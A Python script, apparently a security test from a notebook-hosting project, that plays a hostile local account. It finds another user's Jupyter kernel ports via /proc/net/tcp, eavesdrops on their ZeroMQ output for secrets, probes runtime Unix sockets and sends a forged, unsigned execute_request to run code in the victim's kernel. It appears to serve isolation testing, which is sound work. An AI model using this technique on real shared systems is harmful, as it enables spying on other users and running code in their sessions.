# Copyright: remote.notebooks contributors
# GNU General Public License v3.0-or-later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""An account that listens to the kernels of another one: ``spy.py ACCOUNT`` until SIGTERM, then a line for each thing
learned. Needs pyzmq."""

import collections
import contextlib
import json
import pwd
import re
import signal
import socket
import sys
import time

import zmq

LISTENS = "0A"
#: How a peer begins its greeting (https://rfc.zeromq.org/spec/23): signature and version. The mechanism comes next.
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x01"


def ports(uid):
    """Everybody can read which account listens where."""
    with open("/proc/net/tcp", encoding="ascii") as table:
        rows = [line.split() for line in list(table)[1:]]
    return {int(row[1].split(":")[1], 16) for row in rows if row[3] == LISTENS and int(row[7]) == uid}


def mechanism(port):
    """Ask a port how it is to be spoken to; empty for one that does not speak ZeroMQ."""
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=0.5) as peer:
        peer.sendall(GREETING)
        answer = b""
        while len(answer) < 64 and (more := peer.recv(64)):
            answer += more
        if answer[:1] == b"\xff":
            return answer[12:32].rstrip(b"\0").decode()
    return ""


def reaches(path):
    with socket.socket(socket.AF_UNIX) as peer:
        try:
            peer.connect(path)
        except OSError:
            return False
    return True


def forge(context, port):
    """Send a cell without the key that signs messages."""
    dealer = context.socket(zmq.DEALER)
    dealer.linger = 0
    dealer.connect(f"tcp://127.0.0.1:{port}")
    header = {
        "msg_id": "1",
        "username": "",
        "session": "1",
        "msg_type": "execute_request",
        "version": "5.3",
        "date": "",
    }
    content = {
        "code": "open('/home/ann/forged', 'w')",
        "silent": False,
        "store_history": False,
        "user_expressions": {},
        "allow_stdin": False,
    }
    with contextlib.suppress(zmq.ZMQError):
        dealer.send_multipart(
            [b"<IDS|MSG>", b"", *(json.dumps(part).encode() for part in (header, {}, {}, content))], zmq.NOBLOCK
        )
    return dealer


def main():
    uid = pwd.getpwnam(sys.argv[1]).pw_uid
    over = []
    signal.signal(signal.SIGTERM, lambda *_: over.append(time.monotonic() + 1))
    context = zmq.Context()
    ear = context.socket(zmq.SUB)
    ear.rcvhwm = 0
    ear.subscribe(b"")
    known, asked, sockets = {}, [], {}
    heard = set()
    while not over or time.monotonic() < over[0]:
        for port in ports(uid) - set(known):
            ear.connect(f"tcp://127.0.0.1:{port}")
            known[port] = mechanism(port)
            asked.append(forge(context, port))
        with open("/proc/net/unix", encoding="utf-8") as table:
            for path in {line.split()[-1] for line in table if "/runtime/" in line} - set(sockets):
                sockets[path] = reaches(path)
        while ear.poll(100):
            with contextlib.suppress(zmq.Again):
                while True:
                    heard.update(re.findall(rb"SECRET \d+", b"".join(ear.recv_multipart(zmq.NOBLOCK))))
    print("heard", len(heard))
    print(
        "ways in",
        *sorted(f"{name} {count}" for name, count in collections.Counter(filter(None, known.values())).items()),
    )
    print("sockets", len(sockets), "reached", sum(sockets.values()))


if __name__ == "__main__":
    main()
